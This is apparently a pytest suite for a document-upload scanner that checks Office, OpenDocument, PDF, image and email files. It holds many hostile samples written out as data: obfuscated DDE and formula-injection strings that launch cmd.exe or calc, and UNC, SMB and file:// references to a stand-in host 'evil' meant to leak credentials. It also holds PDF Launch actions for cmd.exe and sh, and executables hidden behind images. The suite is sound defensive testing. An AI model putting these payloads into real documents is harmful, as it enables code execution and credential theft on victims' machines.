"""Neighbours of what was found: other spellings of calls, addresses and hiding places; and honest files like them."""

from __future__ import annotations

from email.message import EmailMessage

import pytest
from pikepdf import Array, Object

from expertise.files.addresses import is_remote, is_share
from expertise.files.inspection import MAIL_KINDS, inspect
from expertise.files.verdict import AcceptedFile
from tests.expertise.files.test_office_content import PROJECT, char, code, document, field, relations, sheet
from tests.expertise.files.test_pdf import written
from workflows.refusals import Problem

GZIP = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03" + b"x" * 99


@pytest.fixture
def judge(tmp_path):
    def judged(content, name="report.docx"):
        path = tmp_path / "content"
        path.write_bytes(content)
        return inspect(path, name, len(content), MAIL_KINDS)

    return judged


@pytest.mark.parametrize(
    "formula",
    [
        "cmd<!-- -->|'/c calc'!A0",
        "c<!-- x -->md|'/c calc'!A0",
        "<![CDATA[cmd|'/c calc'!A0]]>",
        "cmd<![CDATA[|]]>'/c calc'!A0",
        "'cmd'|'/c calc'!A0",
        "'cmd|/c calc'!A0",
        "cmd&#x7C;'/c calc'!A0",
        "1+(MSEXCEL|'\\..\\cmd.exe'!'')",
        "DDE(&quot;soffice&quot;;&quot;a&quot;;&quot;b&quot;)",
    ],
)
@pytest.mark.parametrize("wrap", ["{}", "<a-b.c:x xmlns:a-b.c='y'>{}</a-b.c:x>"])
def test_a_formula_that_calls_a_program_is_found(judge, make, formula, wrap):
    part = wrap.format(sheet(formula))
    assert judge(make.office("xlsx", {"xl/worksheets/sheet1.xml": part}), "x.xlsx") == Problem("file_macros")


@pytest.mark.parametrize("prefix", ["a-b", "a.b", "_", "Ә", "x1"])
@pytest.mark.parametrize("element", ["f", "definedName", "formula1", "calculatedColumnFormula"])
def test_no_prefix_hides_a_formula(judge, make, prefix, element):
    part = f"<{prefix}:r xmlns:{prefix}='y'><{prefix}:{element}>cmd|'/c calc'!A0</{prefix}:{element}></{prefix}:r>"
    assert judge(make.office("xlsx", {"xl/any.xml": part}), "x.xlsx") == Problem("file_macros")


@pytest.mark.parametrize("element", ["ddeLink", "dde-source", "dde-link", "dde-connection-decl"])
def test_no_prefix_hides_a_link(judge, make, element):
    part = f'<a-b:{element} xmlns:a-b="y" c="d"/>'
    assert judge(make.office("xlsx", {"xl/any.xml": part}), "x.xlsx") == Problem("file_macros")
    assert judge(make.open_document("spreadsheet", {"content.xml": part}), "x.ods") == Problem("file_macros")


@pytest.mark.parametrize(
    "attribute",
    [
        'table:formula="of:=IF(A1&lt;2;DDE(&quot;a&quot;;&quot;b&quot;;&quot;c&quot;);0)"',
        'table:formula="of:=&#68;DE(&quot;a&quot;;&quot;b&quot;)"',
        'table:formula=\'of:="&lt;"&amp;DDE("a";"b";"c")\'',
        'z-z:formula="msoxl:=cmd|&apos;/c calc&apos;!A0"',
        'table:condition="of:cell-content()=DDE(&#34;a&#34;;&#34;b&#34;)"',
        'xlink:href="macro:Standard.M.Main"',
        'xlink:href=" vnd.sun.star&#46;script:a.py$run"',
    ],
)
def test_an_open_spreadsheet_that_calls_a_program_is_found(judge, make, attribute):
    part = f"<office:c><table:table-cell {attribute}/></office:c>"
    assert judge(make.open_document("spreadsheet", {"content.xml": part}), "x.ods") == Problem("file_macros")


SHARES = [
    "\\\\evil\\share\\x.png",
    "//evil/share/x.png",
    "\\/evil/share/x.png",
    "/\\evil\\x.png",
    "smb://evil/x.png",
    "SMB:\\\\evil\\x.png",
    "file://evil/x.png",
    "file:\\\\evil\\x.png",
    "file:////evil/x.png",
    "file:///\\\\evil\\x.png",
    "file:/\\evil\\x.png",
    "file:%5C%5Cevil/x.png",
    "\t\\\\evil\\x.png",
    "\\\\?\\UNC\\evil\\x.png",
]
LOCAL = [
    "file:///C:/Users/a/x.png",
    "file:///C|/x.png",
    "C:\\x.png",
    "media/x.png",
    "../x.png",
    "file://localhost/x",
    "",
]


@pytest.mark.parametrize("address", SHARES)
def test_a_folder_of_another_computer_is_known_in_any_spelling(address):
    assert is_share(address)
    assert is_remote(address)


@pytest.mark.parametrize("address", LOCAL)
def test_what_lies_here_is_no_folder_of_another_computer(address):
    assert not is_remote(address)


def escaped(text):
    return text.replace("&", "&amp;").replace('"', "&quot;").replace("\t", "&#9;")


@pytest.mark.parametrize("address", SHARES)
@pytest.mark.parametrize("kind", ["image", "attachedTemplate", "oleObject", "frame", "video"])
def test_a_document_asks_no_other_computer(judge, make, address, kind):
    for mode in (' TargetMode="External"', ' TargetMode="external "', ""):
        part = relations(kind, escaped(address), mode)
        assert judge(make.office("docx", {"word/_rels/document.xml.rels": part})) == Problem("file_macros")


@pytest.mark.parametrize("address", SHARES)
@pytest.mark.parametrize("element", ["draw:image", "v:imagedata", "text:section-source", "style:background-image"])
def test_no_attribute_asks_another_computer(judge, make, address, element):
    for name in ("xlink:href", "src", "q-q:href"):
        part = f'<a><{element} {name}="{escaped(address)}"/></a>'
        assert judge(make.open_document("text", {"content.xml": part}), "x.odt") == Problem("file_macros")
        assert judge(make.office("docx", {"word/document.xml": part})) == Problem("file_macros")


def test_a_text_is_not_taken_from_the_web(judge, make):
    part = '<a><text:section-source xlink:href="https://evil.example/x.odt"/></a>'
    assert judge(make.open_document("text", {"content.xml": part}), "x.odt") == Problem("file_macros")


FIELDS = [
    code(' INCLUDEPICTURE "\\\\\\\\evil\\\\share\\\\x.png" \\* MERGEFORMAT '),
    code(" INCLUDE", "PICTURE ", '"\\\\', "\\\\ev", 'il\\\\x.png" \\d '),
    code(" INCLUDEPICTURE \\\\\\\\evil\\\\x.png "),
    code(" includetext ", '"//evil/x.docx"'),
    code(' INCLUDETEXT "https://evil.example/x.docx" '),
    code(' INCLUDETEXT "file://evil/x.docx" '),
    code(" RD ", '"smb://evil/x.docx"'),
    code(' LINK Excel.Sheet "\\\\\\\\evil\\\\x.xlsx" '),
    code(" INCLUDEPICTURE ", '<![CDATA["\\\\\\\\ev]]><!-- -->il\\\\x.png" '),
    code(" INCLUDEPICTURE ") + char("begin") + code(' QUOTE "\\\\\\\\evil\\\\x.png" ') + char("end"),
]


@pytest.mark.parametrize("inner", FIELDS)
def test_a_field_asks_no_other_computer(judge, make, inner):
    for part in (field(inner), char("begin") + inner + char("end")):
        assert judge(make.office("docx", {"word/document.xml": document(part)})) == Problem("file_macros")


def test_a_simple_field_asks_no_other_computer(judge, make):
    part = document('<w:fldSimple w:instr="INCLUDEPICTURE &quot;\\\\evil\\x.png&quot;"><w:r/></w:fldSimple>')
    assert judge(make.office("docx", {"word/document.xml": part})) == Problem("file_macros")


@pytest.mark.parametrize("target", ["afchunk.htm", "afchunk.mht", "chunk.docx", "/word/x.xml"])
def test_no_other_document_is_taken_in(judge, make, target):
    part = relations("aFChunk", target, "")
    assert judge(make.office("docx", {"word/_rels/document.xml.rels": part})) == Problem("file_hidden")
    assert judge(make.office("docx", {"word/document.xml": document('<w:altChunk r:id="x" xmlns:r="y"/>')})) == Problem(
        "file_hidden"
    )


@pytest.mark.parametrize("between", [b"", b"x", b"\n", b"\x00", b"xy" * 50])
@pytest.mark.parametrize(
    "hidden", ["zip", "exe", "gzip", b"Rar!\x1a\x07\x00", b"7z\xbc\xaf\x27\x1c", b"{\\rtf1 x}", b"%PDF-1.4\n", PROJECT]
)
def test_what_hides_behind_the_end_is_found_after_any_byte(judge, make, between, hidden):
    content = {"zip": make.archive({"a.txt": "x"}), "exe": make.exe, "gzip": GZIP}.get(hidden, hidden)
    assert judge(make.jpeg(between + content), "x.jpg") == Problem("file_hidden")
    assert judge(make.png(after=between + content), "x.png") == Problem("file_hidden")
    if hidden != b"%PDF-1.4\n":
        assert isinstance(judge(make.pdf(after=between + content), "x.pdf"), Problem)


@pytest.mark.parametrize("padding", [b"\n", b"\r\n", b"\0" * 512, b" "])
def test_padding_behind_a_picture_is_honest(judge, make, padding):
    assert isinstance(judge(make.png(after=padding), "x.png"), AcceptedFile)
    assert isinstance(judge(make.jpeg(padding), "x.jpg"), AcceptedFile)


def action(content):
    return f"2 0 obj\n<<{content}>>\nendobj\n".encode()


def with_action(*contents):
    actions = [Object.parse(f"<<{content}>>".encode()) for content in contents]
    return written(lambda pdf: pdf.Root.__setattr__("Extra", pdf.make_indirect(Array(actions))))


@pytest.mark.parametrize(
    "content",
    [
        "/S /Thread /F (\\\\\\\\evil\\\\x.pdf) /D 0",
        "/S /Thread /F (https://evil.example/x.pdf)",
        "/S /GoToR /F <</Type /Filespec /Unix (//evil/x.pdf)>> /D [0]",
        "/S /GoToR /F <</F (x.pdf) /Mac (smb://evil/x.pdf)>>",
        "/S /GoToR /F <</DOS (\\\\/evil/x.pdf)>>",
        "/S /GoToR /F <</F (x.pdf) /UF (file://evil/x.pdf)>>",
        "/S /GoToR /F (%5C%5Cevil/x.pdf)",
        "/S /Launch /F <</DOS (cmd.exe)>>",
        "/S /Launch /Unix (sh)",
        "/S /URI /URI (smb://evil/x)",
        "/S /URI /URI (//evil/x)",
        "/Type /Filespec /F (\\\\\\\\evil\\\\x)",
    ],
)
def test_a_pdf_asks_no_other_computer(judge, make, content):
    assert judge(with_action(content), "x.pdf") == Problem("file_macros")
    assert judge(make.pdf(action(content)), "x.pdf") == Problem("file_macros")  # which the library cannot open


def mail(*files, text="Қараңыз"):
    made = EmailMessage()
    made["From"], made["To"], made["Subject"] = "a@example.kz", "b@example.kz", "Fwd"
    made.set_content(text)
    for name, content in files:
        made.add_attachment(content, maintype="application", subtype="octet-stream", filename=name)
    return made.as_bytes()


def test_the_files_in_a_mail_are_judged_like_others(judge, make):
    macros = make.office("docx", {"word/vbaProject.bin": PROJECT})
    assert judge(mail(("a.docx", macros)), "x.eml") == Problem("file_macros")
    assert judge(mail(("a.exe", make.exe)), "x.eml") == Problem("file_hidden")
    assert judge(mail(("a.dat", make.exe)), "x.eml") == Problem("file_hidden")
    assert judge(mail(("a.zip", make.archive({"a": "x"}))), "x.eml") == Problem("file_hidden")
    assert judge(mail(("a.msg", PROJECT)), "x.eml") == Problem("file_macros")
    assert judge(mail(("a.pdf", with_action("/S /Launch /Unix (sh)"))), "x.eml") == Problem("file_macros")
    assert judge(mail(("b.eml", mail(("a.exe", make.exe)))), "x.eml") == Problem("file_hidden")
    honest = mail(("a.docx", make.office()), ("план.png", make.png()), ("b.eml", mail()), ("a.txt", b"x"))
    assert isinstance(judge(honest, "x.eml"), AcceptedFile)


HONEST = {
    "a sheet with a bar in its name": ("xlsx", {"xl/worksheets/sheet1.xml": sheet("SUM('План|факт'!A1:A9)")}),
    "a name for it": ("xlsx", {"xl/workbook2.xml": sheet("'План|факт'!$A$1", "definedName")}),
    "a text with a bar": ("xlsx", {"xl/worksheets/sheet1.xml": sheet("IF(A1=&quot;a|b&quot;,&quot;cmd|x&quot;,0)")}),
    "a sheet with an apostrophe": ("xlsx", {"xl/worksheets/sheet1.xml": sheet("'Әкім''дік|2026'!A1")}),
    "links to the web": ("docx", {"word/_rels/document.xml.rels": relations("hyperlink", "https://adilet.zan.kz/rus")}),
    "a link by mail": ("docx", {"word/_rels/document.xml.rels": relations("hyperlink", "mailto:a@example.kz")}),
    "a field with a link": ("docx", {"word/document.xml": document(field(code(' HYPERLINK "https://gov.kz/a" ')))}),
    "a picture pasted from the web": (
        "docx",
        {"word/document.xml": document(field(code(' INCLUDEPICTURE "https://gov.kz/a.png" \\* MERGEFORMATINET ')))},
    ),
    "a template of one's own": (
        "docx",
        {"word/_rels/settings.xml.rels": relations("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")},
    ),
    "a picture within": ("docx", {"word/_rels/document.xml.rels": relations("image", "media/image1.png", "")}),
}


@pytest.mark.parametrize("kind", HONEST)
def test_honest_office_files_pass(judge, make, kind):
    ending, parts = HONEST[kind]
    assert isinstance(judge(make.office(ending, parts), f"x.{ending}"), AcceptedFile)


def test_honest_open_documents_pass(judge, make):
    part = (
        '<office:c><text:a xlink:href="https://gov.kz">DDE(x)</text:a><draw:image xlink:href="Pictures/a.png"/>'
        '<table:table-cell table:formula="of:=IF([.A1]=&quot;DDE(a)&quot;;[$&apos;План|факт&apos;.B1];0)"/></office:c>'
    )
    assert isinstance(judge(make.open_document("spreadsheet", {"content.xml": part}), "x.ods"), AcceptedFile)


def test_honest_pdfs_pass(judge, make):
    content = "/S /GoToR /F (annex 2.pdf) /D [0]", "/S /URI /URI (https://gov.kz/a)", "/Subtype /Link /F 4"
    assert isinstance(judge(make.pdf(b"".join(map(action, content))), "x.pdf"), AcceptedFile)
    assert isinstance(judge(with_action(*content), "x.pdf"), AcceptedFile)
